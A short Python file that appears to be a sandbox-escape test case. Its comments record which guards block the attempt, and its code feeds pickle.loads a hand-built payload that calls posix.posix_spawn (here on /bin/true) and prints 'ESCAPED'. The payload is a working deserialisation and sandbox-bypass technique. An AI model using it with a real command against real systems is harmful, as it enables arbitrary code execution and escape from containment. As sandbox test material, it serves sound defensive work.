# attack: loader and module tricks
# stops: guards: __import__ not found
# os: process/seccomp: No module named 'pickle'
# baseline: -guards => escaped
# pickle.loads with a __reduce__ that calls posix.posix_spawn
import pickle
pid = pickle.loads(b"cposix\nposix_spawn\n(V/bin/true\n(lV/bin/true\na(dtR.")
print("ESCAPED", pid)
